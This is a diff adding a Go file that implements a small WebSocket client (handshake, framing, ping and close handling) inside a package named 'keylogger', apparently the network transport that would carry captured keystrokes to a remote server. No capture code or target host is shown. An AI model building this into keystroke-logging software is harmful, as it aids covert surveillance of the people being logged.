@@ -0,0 +1,226 @@
+//go:build !localonly
+// +build !localonly
+
+package keylogger
+
+import (
+	"bufio"
+	"crypto/rand"
+	"crypto/sha1"
+	"crypto/tls"
+	"encoding/base64"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/url"
+	"sync"
+	"time"
+)
+
+/*
+	WebSocket opcodes and the GUID of the opening handshake.
+	https://datatracker.ietf.org/doc/html/rfc6455
+*/
+const (
+	wsContinuation = 0x0
+	wsText         = 0x1
+	wsClose        = 0x8
+	wsPing         = 0x9
+	wsPong         = 0xA
+	wsGUID         = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
+	wsMaxMessage   = 1 << 20
+)
+
+/*
+	A client connection speaking the WebSocket protocol, enough of it for
+	JSON messages: text frames, fragmented or not, ping and close. One
+	goroutine may read while others write.
+*/
+type wsConn struct {
+	conn net.Conn
+	r    *bufio.Reader
+	wmu  sync.Mutex // held while writing a frame, as reads answer pings
+}
+
+/*
+	Connects to the ws or wss URL rawURL, asking for subprotocol.
+*/
+func dialWebSocket(rawURL, subprotocol string, timeout time.Duration) (*wsConn, error) {
+	u, err := url.Parse(rawURL)
+	if err != nil {
+		return nil, err
+	}
+	host := u.Host
+	if u.Port() == "" {
+		host = net.JoinHostPort(u.Hostname(), map[string]string{"ws": "80", "wss": "443"}[u.Scheme])
+	}
+	dialer := &net.Dialer{Timeout: timeout}
+	var conn net.Conn
+	switch u.Scheme {
+	case "ws":
+		conn, err = dialer.Dial("tcp", host)
+	case "wss":
+		conn, err = tls.DialWithDialer(dialer, "tcp", host, &tls.Config{ServerName: u.Hostname()})
+	default:
+		return nil, fmt.Errorf("websocket: %s is not a ws or wss URL", rawURL)
+	}
+	if err != nil {
+		return nil, err
+	}
+	c := &wsConn{conn: conn, r: bufio.NewReader(conn)}
+	conn.SetDeadline(time.Now().Add(timeout))
+	if err := c.handshake(u, subprotocol); err != nil {
+		conn.Close()
+		return nil, err
+	}
+	conn.SetDeadline(time.Time{})
+	return c, nil
+}
+
+func (c *wsConn) handshake(u *url.URL, subprotocol string) error {
+	var nonce [16]byte
+	if _, err := rand.Read(nonce[:]); err != nil {
+		return err
+	}
+	key := base64.StdEncoding.EncodeToString(nonce[:])
+	path := u.RequestURI()
+	req := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"+
+		"Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n", path, u.Host, key)
+	if subprotocol != "" {
+		req += "Sec-WebSocket-Protocol: " + subprotocol + "\r\n"
+	}
+	if _, err := io.WriteString(c.conn, req+"\r\n"); err != nil {
+		return err
+	}
+	resp, err := http.ReadResponse(c.r, nil)
+	if err != nil {
+		return err
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusSwitchingProtocols {
+		return fmt.Errorf("websocket: %s answered %s", u.Host, resp.Status)
+	}
+	sum := sha1.Sum([]byte(key + wsGUID))
+	if resp.Header.Get("Sec-WebSocket-Accept") != base64.StdEncoding.EncodeToString(sum[:]) {
+		return errors.New("websocket: bad Sec-WebSocket-Accept")
+	}
+	return nil
+}
+
+/*
+	Sends data as one text message.
+*/
+func (c *wsConn) writeText(data []byte) error {
+	return c.writeFrame(wsText, data)
+}
+
+/*
+	Writes a final frame. Client frames are masked.
+*/
+func (c *wsConn) writeFrame(op byte, data []byte) error {
+	frame := []byte{0x80 | op}
+	switch n := len(data); {
+	case n < 126:
+		frame = append(frame, 0x80|byte(n))
+	case n <= 0xFFFF:
+		frame = append(frame, 0x80|126, byte(n>>8), byte(n))
+	default:
+		var ext [8]byte
+		binary.BigEndian.PutUint64(ext[:], uint64(n))
+		frame = append(append(frame, 0x80|127), ext[:]...)
+	}
+	var mask [4]byte
+	if _, err := rand.Read(mask[:]); err != nil {
+		return err
+	}
+	frame = append(frame, mask[:]...)
+	for i, b := range data {
+		frame = append(frame, b^mask[i%4])
+	}
+	c.wmu.Lock()
+	defer c.wmu.Unlock()
+	_, err := c.conn.Write(frame)
+	return err
+}
+
+/*
+	Returns the next text message, answering pings on the way. A close
+	frame from the server ends the connection with an error holding its
+	reason.
+*/
+func (c *wsConn) readText() ([]byte, error) {
+	var msg []byte
+	for {
+		var head [2]byte
+		if _, err := io.ReadFull(c.r, head[:]); err != nil {
+			return nil, err
+		}
+		fin, op := head[0]&0x80 != 0, head[0]&0x0F
+		n := uint64(head[1] & 0x7F)
+		switch n {
+		case 126:
+			var ext [2]byte
+			if _, err := io.ReadFull(c.r, ext[:]); err != nil {
+				return nil, err
+			}
+			n = uint64(binary.BigEndian.Uint16(ext[:]))
+		case 127:
+			var ext [8]byte
+			if _, err := io.ReadFull(c.r, ext[:]); err != nil {
+				return nil, err
+			}
+			n = binary.BigEndian.Uint64(ext[:])
+		}
+		if head[1]&0x80 != 0 {
+			return nil, errors.New("websocket: masked frame from the server")
+		}
+		if n > wsMaxMessage || uint64(len(msg))+n > wsMaxMessage {
+			return nil, errors.New("websocket: message too long")
+		}
+		payload := make([]byte, n)
+		if _, err := io.ReadFull(c.r, payload); err != nil {
+			return nil, err
+		}
+		switch op {
+		case wsPing:
+			if err := c.writeFrame(wsPong, payload); err != nil {
+				return nil, err
+			}
+			continue
+		case wsPong:
+			continue
+		case wsClose:
+			return nil, closeError(payload)
+		case wsText, wsContinuation:
+			msg = append(msg, payload...)
+		default:
+			return nil, fmt.Errorf("websocket: unexpected opcode %d", op)
+		}
+		if fin {
+			return msg, nil
+		}
+	}
+}
+
+func closeError(payload []byte) error {
+	if len(payload) < 2 {
+		return errors.New("websocket: closed")
+	}
+	code := binary.BigEndian.Uint16(payload)
+	if len(payload) > 2 {
+		return fmt.Errorf("websocket: closed (%d %s)", code, payload[2:])
+	}
+	return fmt.Errorf("websocket: closed (%d)", code)
+}
+
+/*
+	Sends a close frame and closes the connection.
+*/
+func (c *wsConn) close() error {
+	c.conn.SetWriteDeadline(time.Now().Add(time.Second))
+	c.writeFrame(wsClose, []byte{0x03, 0xE8}) // 1000, normal closure
+	return c.conn.Close()
+}